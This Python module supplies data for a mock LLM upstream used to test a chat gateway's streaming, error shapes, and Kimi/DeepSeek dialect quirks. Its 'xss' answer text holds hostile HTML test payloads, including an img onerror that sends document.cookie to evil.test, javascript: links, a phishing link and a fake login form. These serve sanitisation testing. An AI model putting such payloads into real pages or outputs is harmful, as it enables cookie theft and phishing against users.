"""What the mock upstream answers: the per-request directive, the answer texts and the error bodies.

Pure data and functions, no I/O; :mod:`streamchat.mock_upstream` puts them on the wire.

A test steers one request with a directive anywhere in the last user message (the gateway forwards
messages, not headers)::

    [[mock tokens=40 rate=20 reasoning=5 error_after=10 kind=overloaded]]

:func:`parse_scenario` turns it into a :class:`Scenario`; an unknown key or a bad value raises
:class:`ScenarioError`, which the server answers with a 400. The keys (all optional)::

    tokens=N            answer tokens (words: 12; other texts: the whole text, else cut/repeated)
    text=words|markdown|math|cjk|xss|echo    " w1"," w2",... | markdown | markdown with LaTeX |
                        CJK + emoji | hostile HTML |
                        the user message without the directive
    reasoning=N         reasoning tokens " r1"," r2",... first, in the dialect's field
    rate=R              tokens per second (0: as fast as possible)
    ttft_ms=N           delay before the first chunk (headers go at once)
    keepalive_ms=N      ": keep-alive" comments every N ms while waiting (ttft, hang=after_headers)
    status=N kind=K     an HTTP error instead of an answer; K in rate_limit, quota, overloaded,
                        auth, content_filter, server, html (either one alone picks the other)
    retry_after=S       a Retry-After header on that error
    fail_times=N fail_key=K   only the first N requests with key K fail (500 if nothing else asked)
    drop_after=N        abort the TCP connection after N tokens
    error_after=N       the dialect's in-band error after N tokens (kind=K picks which)
    malformed_after=N   insert a chunk that is not JSON after N tokens
    invalid_utf8_after=N    insert a chunk with invalid UTF-8 in its content after N tokens
    unterminated_after=N    after N tokens a data line that never ends (8 MiB), then silence
    split=byte          every byte of the body in its own write
    hang=before_headers|after_headers   never answer / headers and then nothing
    finish=stop|length|content_filter|tool_calls    the finish_reason
    usage=0             no usage anywhere
    dialect=NAME        answer in another dialect than the server's
    tool_calls=1        stream a get_weather tool call instead of text
    refusal=1           refuse instead of answering (OpenAI's delta.refusal / message.refusal)
    search=N            with Kimi's builtin $web_search in tools: call it N times (one call per
                        request, until N tool messages came back), then answer
    slow_round=N        ttft_ms (and hang) apply only to the request that follows N $web_search
                        tool messages (a round in the middle of an answer)
    title=WORDS|fail|hang   what a title call (streamchat's, generations/titles.py: a system
                        message asking for "the title of this conversation") about this question
                        answers: WORDS with underscores as spaces (default "A mock title"),
                        a 500, or nothing at all; the question's other keys do not apply to it

Kimi's wire (issue 13, reference-responses-kimi-clients.md §2), followed by the moonshot dialect:
``$web_search`` calls answered by a ``tool`` message carrying the call's arguments unchanged
(else a 400), only with ``thinking: {"type": "disabled"}`` on models that take the switch;
thinking on kimi-k2.5 by default (reasoning first), off with ``thinking.type: disabled``; a
thinking model's assistant turn with tool calls must carry its ``reasoning_content``; partial
mode (a trailing assistant message with ``partial: true``; DeepSeek: ``prefix: true``) answers
the rest of the text after that prefix, without repeating it.

A token is one reasoning, text or tool-call delta; failure points past the end act at the end.
"""

from __future__ import annotations

import dataclasses
import re
from collections.abc import Callable, Mapping
from dataclasses import dataclass
from typing import Any

__all__ = [
    "DEFAULT_MODELS",
    "DIALECTS",
    "ERROR_KINDS",
    "Scenario",
    "ScenarioError",
    "answer_pieces",
    "can_see",
    "continued_prefix",
    "error_body",
    "failure_body",
    "has_image",
    "has_thinking_switch",
    "is_title_request",
    "kimi_checks",
    "message_text",
    "parse_scenario",
    "prompt_tokens",
    "reasoning_pieces",
    "refusal_pieces",
    "searches_answered",
    "thinks_by",
    "title_scenario",
    "vision_refusal",
    "web_search_args",
]

DIALECTS = ("openai", "moonshot", "deepseek", "ollama", "vllm")

DEFAULT_MODELS: Mapping[str, tuple[str, ...]] = {
    "openai": ("gpt-4o-mini", "gpt-4o"),
    "moonshot": (
        "moonshot-v1-8k",
        "kimi-k2-thinking",
        "moonshot-v1-8k-vision-preview",
        "kimi-k2.5",
    ),
    "deepseek": ("deepseek-chat", "deepseek-reasoner"),
    "ollama": ("llama3.2",),
    "vllm": ("Qwen/Qwen3-8B",),
}

ERROR_KINDS = ("rate_limit", "quota", "overloaded", "auth", "content_filter", "server", "html")

_DIRECTIVE = re.compile(r"\[\[mock(?P<args>(?:\s+[^\s\]]+)*)\s*\]\]")
# Words and whitespace, so that joining the pieces gives the text back exactly.
_PIECE = re.compile(r"\s*\S+|\s+")


class ScenarioError(ValueError):
    """A directive the mock does not understand."""


@dataclass(frozen=True, slots=True)
class Scenario:
    """One request's behaviour. ``None`` means "not asked for"."""

    tokens: int | None = None
    text: str = "words"
    reasoning: int = 0
    rate: float = 0.0
    ttft_ms: int = 0
    keepalive_ms: int = 0
    status: int | None = None
    kind: str | None = None
    retry_after: str | None = None
    fail_times: int | None = None
    fail_key: str = ""
    drop_after: int | None = None
    error_after: int | None = None
    malformed_after: int | None = None
    invalid_utf8_after: int | None = None
    unterminated_after: int | None = None
    split: str | None = None
    hang: str | None = None
    finish: str | None = None
    usage: bool = True
    dialect: str | None = None
    tool_calls: bool = False
    refusal: bool = False
    search: int = 0
    slow_round: int | None = None
    title: str | None = None
    title_ms: int = 0  # how long a title call waits before its first token
    prompt: str = ""  # the last user message without its directives, for text=echo

    @property
    def http_failure(self) -> bool:
        """True when the answer is an error status instead of a completion."""
        return self.status is not None or (self.kind is not None and self.error_after is None)

    @property
    def fails(self) -> bool:
        return self.http_failure or self.hang is not None or self._failure_points

    @property
    def _failure_points(self) -> bool:
        return any(getattr(self, key) is not None for key in _NO_POINTS)

    def succeeding(self) -> Scenario:
        """The same request without any of its failures."""
        return dataclasses.replace(self, status=None, kind=None, hang=None, **_NO_POINTS)

    def failing(self) -> Scenario:
        """The same request; a plain 500 when it asks for no failure of its own."""
        return self if self.fails else dataclasses.replace(self, status=500, kind="server")


_NO_POINTS: dict[str, Any] = dict.fromkeys(
    ("drop_after", "error_after", "malformed_after", "invalid_utf8_after", "unterminated_after")
)


def _count(key: str, raw: str) -> int:
    if not raw.isdigit():
        raise ScenarioError(f"mock directive {key}={raw}: expected a whole number >= 0")
    return int(raw)


def _number(key: str, raw: str) -> float:
    try:
        value = float(raw)
    except ValueError:
        value = -1.0
    if not value >= 0 or value == float("inf"):
        raise ScenarioError(f"mock directive {key}={raw}: expected a number >= 0")
    return value


def _status(key: str, raw: str) -> int:
    value = _count(key, raw)
    if not 400 <= value <= 599:
        raise ScenarioError(f"mock directive {key}={raw}: expected an HTTP error status 400-599")
    return value


def _seconds(key: str, raw: str) -> str:
    _number(key, raw)
    return raw


def _word(key: str, raw: str) -> str:
    return raw


def _flag(key: str, raw: str) -> bool:
    if raw not in ("0", "1"):
        raise ScenarioError(f"mock directive {key}={raw}: expected 0 or 1")
    return raw == "1"


def _choice(*options: str) -> Callable[[str, str], str]:
    def parse(key: str, raw: str) -> str:
        if raw not in options:
            raise ScenarioError(f"mock directive {key}={raw}: expected one of {', '.join(options)}")
        return raw

    return parse


_KEYS: dict[str, Callable[[str, str], Any]] = {
    "tokens": _count,
    "text": _choice("words", "markdown", "math", "cjk", "xss", "echo"),
    "reasoning": _count,
    "rate": _number,
    "ttft_ms": _count,
    "keepalive_ms": _count,
    "status": _status,
    "kind": _choice(*ERROR_KINDS),
    "retry_after": _seconds,
    "fail_times": _count,
    "fail_key": _word,
    "drop_after": _count,
    "error_after": _count,
    "malformed_after": _count,
    "invalid_utf8_after": _count,
    "unterminated_after": _count,
    "split": _choice("byte"),
    "hang": _choice("before_headers", "after_headers"),
    "finish": _choice("stop", "length", "content_filter", "tool_calls"),
    "usage": _flag,
    "dialect": _choice(*DIALECTS),
    "tool_calls": _flag,
    "refusal": _flag,
    "search": _count,
    "slow_round": _count,
    "title": _word,
    "title_ms": _count,
}


def message_text(content: Any) -> str:
    """The text of a message's content: a string, or the text parts of a list."""
    if isinstance(content, str):
        return content
    if isinstance(content, list):
        parts = (p.get("text") for p in content if isinstance(p, dict))
        return "".join(p for p in parts if isinstance(p, str))
    return ""


def parse_scenario(messages: list[Any]) -> Scenario:
    """The scenario asked for by the directives in the last user message (defaults if none)."""
    users = [m for m in messages if isinstance(m, dict) and m.get("role") == "user"]
    text = message_text(users[-1].get("content")) if users else ""
    values: dict[str, Any] = {}
    for match in _DIRECTIVE.finditer(text):
        for item in match["args"].split():
            key, sep, raw = item.partition("=")
            if key not in _KEYS:
                known = ", ".join(_KEYS)
                raise ScenarioError(f"unknown mock directive key {key!r} (known keys: {known})")
            if not sep or not raw:
                raise ScenarioError(f"mock directive {item!r}: expected key=value")
            values[key] = _KEYS[key](key, raw)
    return Scenario(prompt=_DIRECTIVE.sub("", text).strip(), **values)


def is_title_request(messages: list[Any]) -> bool:
    """A call for a conversation's title: a system message that asks for one."""
    return any(
        isinstance(m, dict)
        and m.get("role") == "system"
        and "title of this conversation" in message_text(m.get("content")).lower()
        for m in messages
    )


def title_scenario(asked: Scenario) -> Scenario:
    """What a title call answers, by the ``title=`` of the question it quotes."""
    if asked.title == "fail":
        return Scenario(status=500, kind="server", dialect=asked.dialect)
    if asked.title == "hang":
        return Scenario(hang="after_headers", dialect=asked.dialect)
    words = (asked.title or "A_mock_title").replace("_", " ")
    return Scenario(text="echo", prompt=words, dialect=asked.dialect, ttft_ms=asked.title_ms)


def prompt_tokens(messages: list[Any]) -> int:
    """A stand-in token count: words (directives left out) plus 3 per message."""
    texts = (message_text(m.get("content")) for m in messages if isinstance(m, dict))
    return sum(len(_DIRECTIVE.sub("", text).split()) + 3 for text in texts)


# -- answer texts ---------------------------------------------------------------------------

_MARKDOWN = """\
## Streaming, briefly

Server-sent events keep **one HTTP response open** and write a `data:` line per event.

1. The client sends the request.
2. The server answers with `text/event-stream`.
3. Each token arrives as a small JSON chunk.

```python
async for chunk in stream:
    print(chunk.choices[0].delta.content or "", end="")
```

| provider | reasoning field |
|---|---|
| Kimi | `reasoning_content` |
| Ollama | `reasoning` |

> Tip: a stream is complete only when a `finish_reason` arrives.

See [the spec](https://html.spec.whatwg.org/multipage/server-sent-events.html) for details."""

_MATH = """\
## The Gaussian integral

Square it and change to polar coordinates:
$I^2 = \\int_0^{2\\pi}\\int_0^\\infty e^{-r^2} r\\,dr\\,d\\theta$, so

$$
\\int_{-\\infty}^{\\infty} e^{-x^2}\\,dx = \\sqrt{\\pi}
$$

and inline, \\(\\sum_{k=1}^{n} k = \\frac{n(n+1)}{2}\\), or displayed:

\\[
\\mathbf{A}\\mathbf{x} = \\lambda \\mathbf{x}, \\quad \\det(\\mathbf{A} - \\lambda I) = 0
\\]

- Euler: $e^{i\\pi} + 1 = 0$
- Bayes: $P(A \\mid B) = \\frac{P(B \\mid A)\\,P(A)}{P(B)}$
"""

_CJK = (
    "你好，世界！这是一个流式输出的测试：每个汉字都是三个字节，"
    "表情符号 👩‍💻🎉🚀 是四个字节。日本語のテキストと한국어도 있습니다。"
    "温度 25℃，数学 α+β=γ。完毕 ✅"
)

_XSS = """\
Here is the summary you asked for.

<script>alert('xss-script')</script>

<img src=x onerror="fetch('http://evil.test/steal?c='+document.cookie)">

[click for details](javascript:alert('xss-link')) or [this one](JaVaScRiPt:alert(1))

<svg onload="alert('xss-svg')"><circle r="10"/></svg>

<iframe src="http://evil.test/frame" style="position:fixed;inset:0"></iframe>

![pixel](http://evil.test/pixel.png?leak=1)

<a href="http://evil.test/phish" onclick="alert('xss-onclick')">your account page</a>

<style>body { display: none }</style><form action="http://evil.test/login"><input name=pw></form>

event: done
data: {"injected": true}

**Bold** and `code` should survive."""


def _cut(text: str, kind: str) -> list[str]:
    if kind == "cjk":
        return [text[i : i + 2] for i in range(0, len(text), 2)]
    return _PIECE.findall(text)


def answer_pieces(scenario: Scenario) -> list[str]:
    """The answer tokens. ``words`` gives " w1", " w2", ... so a client can check order and
    completeness; the other texts are sent whole unless ``tokens`` is given, then cut or repeated
    to that many pieces."""
    if scenario.text == "words":
        return [
            f" w{i}" for i in range(1, (12 if scenario.tokens is None else scenario.tokens) + 1)
        ]
    text = {"markdown": _MARKDOWN, "math": _MATH, "cjk": _CJK, "xss": _XSS}.get(
        scenario.text, scenario.prompt
    )
    pieces = _cut(text, scenario.text)
    if scenario.tokens is None or not pieces:
        return pieces
    return [pieces[i % len(pieces)] for i in range(scenario.tokens)]


def reasoning_pieces(count: int) -> list[str]:
    return [f" r{i}" for i in range(1, count + 1)]


REFUSAL = "I'm sorry, I can't help with that."


def refusal_pieces() -> list[str]:
    return _PIECE.findall(REFUSAL)


# -- error bodies ---------------------------------------------------------------------------

_ACCOUNT = "org-abc123 <ak-xyz789>"

# kind -> (status, type, code, message) in the OpenAI shape.
_OPENAI: dict[str, tuple[int, str, str | None, str]] = {
    "rate_limit": (
        429,
        "requests",
        "rate_limit_exceeded",
        "Rate limit reached for {model} in organization org-abc123 on requests per min (RPM): "
        "Limit 3, Used 3, Requested 1. Please try again in 20s.",
    ),
    "quota": (
        429,
        "insufficient_quota",
        "insufficient_quota",
        "You exceeded your current quota, please check your plan and billing details.",
    ),
    "overloaded": (
        503,
        "server_error",
        None,
        "The engine is currently overloaded, please try again later.",
    ),
    "auth": (
        401,
        "invalid_request_error",
        "invalid_api_key",
        "Incorrect API key provided. You can find your API key at "
        "https://platform.openai.com/account/api-keys.",
    ),
    "content_filter": (
        400,
        "invalid_request_error",
        "content_filter",
        "The response was filtered due to the prompt triggering the content management policy.",
    ),
    "server": (
        500,
        "server_error",
        None,
        "The server had an error while processing your request. Sorry about that!",
    ),
}

# kind -> (status, type, message); Moonshot sends no code and names the account in the message.
_MOONSHOT: dict[str, tuple[int, str, str]] = {
    "rate_limit": (
        429,
        "rate_limit_reached_error",
        f"Your account {_ACCOUNT} request reached organization max RPM: 3, "
        "please try again after 1 seconds",
    ),
    "overloaded": (
        429,
        "engine_overloaded_error",
        f"The engine is currently overloaded, please try again later (account {_ACCOUNT})",
    ),
    "quota": (
        429,
        "exceeded_current_quota_error",
        f"Your account {_ACCOUNT} is suspended, please check your plan and billing details",
    ),
    "content_filter": (
        400,
        "content_filter",
        f"The request was rejected because it was considered high risk (account {_ACCOUNT})",
    ),
    "auth": (401, "invalid_authentication_error", f"Invalid Authentication ({_ACCOUNT})"),
    "server": (500, "server_error", f"Your account {_ACCOUNT} request failed: internal error"),
}

_DEEPSEEK: dict[str, tuple[int, str, str | None, str]] = {
    "rate_limit": (429, "rate_limit_error", "rate_limit_exceeded", "Rate Limit Reached"),
    "quota": (402, "unknown_error", "invalid_request_error", "Insufficient Balance"),
    "overloaded": (503, "server_overloaded", None, "Server Overloaded"),
    "auth": (
        401,
        "authentication_error",
        "invalid_request_error",
        "Authentication Fails, Your api key is invalid",
    ),
    "content_filter": (
        400,
        "invalid_request_error",
        "invalid_request_error",
        "Content Exists Risk",
    ),
    "server": (500, "server_error", None, "Server Error"),
}

_OLLAMA: dict[str, tuple[int, str, str | None, str]] = {
    "rate_limit": (429, "api_error", None, "too many requests"),
    "quota": (429, "api_error", None, "quota exceeded"),
    "overloaded": (
        503,
        "api_error",
        None,
        "server busy, please try again. maximum pending requests exceeded",
    ),
    "auth": (401, "invalid_request_error", None, "unauthorized"),
    "content_filter": (400, "invalid_request_error", None, "content filtered"),
    "server": (500, "api_error", None, "llama runner process has terminated: exit status 2"),
}

_VLLM: dict[str, tuple[int, str, str | None, str]] = {
    "rate_limit": (429, "RateLimitError", None, "Too many requests"),
    "quota": (429, "RateLimitError", None, "Token quota exceeded"),
    "overloaded": (503, "ServiceUnavailableError", None, "The server is overloaded"),
    "content_filter": (400, "BadRequestError", None, "The request was rejected by the guardrail"),
    "server": (500, "InternalServerError", None, "EngineCore encountered an issue"),
}

_HTML = (
    "<html>\r\n<head><title>503 Service Temporarily Unavailable</title></head>\r\n<body>\r\n"
    "<center><h1>503 Service Temporarily Unavailable</h1></center>\r\n<hr><center>nginx</center>"
    "\r\n</body>\r\n</html>\r\n"
)


def error_body(
    dialect: str, kind: str, *, model: str = "", message: str | None = None
) -> tuple[int, Any]:
    """(default status, body) of one error kind in one dialect's shape. ``kind="bad_request"``
    takes its ``message``; ``kind="html"`` gives the text of an nginx 503 page."""
    if kind == "html":
        return 503, _HTML
    if dialect == "vllm" and kind == "auth":
        return 401, {"error": "Unauthorized"}  # vLLM's --api-key middleware
    if dialect == "moonshot":
        status, kind_type, text = _MOONSHOT.get(kind, (400, "invalid_request_error", ""))
        return status, {"error": {"type": kind_type, "message": message or text}}
    table = {"deepseek": _DEEPSEEK, "ollama": _OLLAMA, "vllm": _VLLM}.get(dialect, _OPENAI)
    status, kind_type, code, text = table.get(kind, (400, "invalid_request_error", None, ""))
    if dialect == "vllm":
        kind_type = "BadRequestError" if kind == "bad_request" else kind_type
        return status, {
            "error": {"message": message or text, "type": kind_type, "param": None, "code": status}
        }
    text = message or text.format(model=model or "gpt-4o-mini")
    return status, {"error": {"message": text, "type": kind_type, "param": None, "code": code}}


# Models the mock lets see images (the vision models of Kimi's guide; OpenAI's gpt-4o family).
_VISION = re.compile(r"vision|kimi-k2\.[5-9]|gpt-4o|gpt-4\.1|gpt-5|-vl\b|llava", re.IGNORECASE)


def has_image(messages: list[Any]) -> bool:
    """Whether any message has an ``image_url`` content part."""
    return any(
        isinstance(m, dict)
        and isinstance(m.get("content"), list)
        and any(isinstance(p, dict) and p.get("type") == "image_url" for p in m["content"])
        for m in messages
    )


def can_see(model: str) -> bool:
    return _VISION.search(model) is not None


def vision_refusal(dialect: str, model: str) -> tuple[int, Any]:
    """Image parts sent to a model that cannot read them: a 400 in the dialect's error shape
    (Kimi: ``{"error": {"type", "message"}}``, wire-formats.md §4; the text is the mock's)."""
    message = f"Image input is not supported by model {model}"
    return error_body(dialect, "bad_request", model=model, message=message)


_THINKING_SWITCH = re.compile(r"kimi-k2\.[5-9]")
_ALWAYS_THINKS = re.compile(r"thinking")


def web_search_args(round_: int) -> str:
    """The arguments of the mock's ``round_``-th $web_search call (the fields go-moonshot
    reads: search_result.search_id and usage.total_tokens)."""
    result = f'{{"search_id":"mock-search-{round_}"}}'
    return f'{{"search_result":{result},"usage":{{"total_tokens":{1000 + round_}}}}}'


def kimi_checks(body: dict[str, Any]) -> str | None:
    """What Kimi would refuse in ``body`` (thinking, $web_search, reasoning replay), or None."""
    model = str(body.get("model") or "")
    thinking = body.get("thinking")
    if thinking is not None and (
        not isinstance(thinking, dict) or thinking.get("type") not in ("enabled", "disabled")
    ):
        return 'thinking must be {"type": "enabled"} or {"type": "disabled"}'
    thinks = thinks_by(model, thinking)
    tools = body.get("tools") or []
    searching = any(
        isinstance(t, dict) and (t.get("function") or {}).get("name") == "$web_search"
        for t in tools
    )
    if searching and _THINKING_SWITCH.search(model) and thinks:
        return "$web_search must run with thinking disabled"
    messages = [m for m in body.get("messages") or [] if isinstance(m, dict)]
    searches = 0
    for i, message in enumerate(messages):
        calls = message.get("role") == "assistant" and message.get("tool_calls")
        if calls and thinks and not message.get("reasoning_content"):
            return "reasoning_content is missing in an assistant message with tool_calls"
        if message.get("role") == "tool" and message.get("name") == "$web_search":
            earlier = [c for m in messages[:i] for c in m.get("tool_calls") or []]
            if message.get("content") != web_search_args(searches) or not any(
                c.get("id") == message.get("tool_call_id") for c in earlier
            ):
                return "the tool message must carry the $web_search call's arguments unchanged"
            searches += 1
    return None


def thinks_by(model: str, thinking: Any) -> bool:
    """Whether a Kimi model thinks: kimi-k2-thinking always; kimi-k2.5 unless disabled."""
    if _ALWAYS_THINKS.search(model):
        return True
    disabled = isinstance(thinking, dict) and thinking.get("type") == "disabled"
    return _THINKING_SWITCH.search(model) is not None and not disabled


def has_thinking_switch(model: str) -> bool:
    return _THINKING_SWITCH.search(model) is not None


def searches_answered(messages: list[Any]) -> int:
    return sum(
        1
        for m in messages
        if isinstance(m, dict) and m.get("role") == "tool" and m.get("name") == "$web_search"
    )


def continued_prefix(dialect: str, messages: list[Any]) -> str | None:
    """The text to continue (Kimi's partial mode, DeepSeek's prefix completion), or None."""
    last = messages[-1] if messages else None
    if not isinstance(last, dict) or last.get("role") != "assistant":
        return None
    flag = "prefix" if dialect == "deepseek" else "partial"
    if dialect not in ("moonshot", "deepseek") or last.get(flag) is not True:
        return None
    return str(last.get("content") or "")


def _kind_of_status(status: int) -> str:
    by_status = {401: "auth", 403: "auth", 402: "quota", 429: "rate_limit", 503: "overloaded"}
    return by_status.get(status, "server" if status >= 500 else "bad_request")


def failure_body(dialect: str, scenario: Scenario, *, model: str = "") -> tuple[int, Any]:
    """(status, body) of the HTTP failure a scenario asks for: ``kind`` (else one that fits
    ``status``) in the dialect's shape, with ``status`` if given, else the kind's usual one."""
    kind = scenario.kind or _kind_of_status(scenario.status or 500)
    message = f"mock failure: HTTP {scenario.status}" if kind == "bad_request" else None
    status, body = error_body(dialect, kind, model=model, message=message)
    return scenario.status or status, body
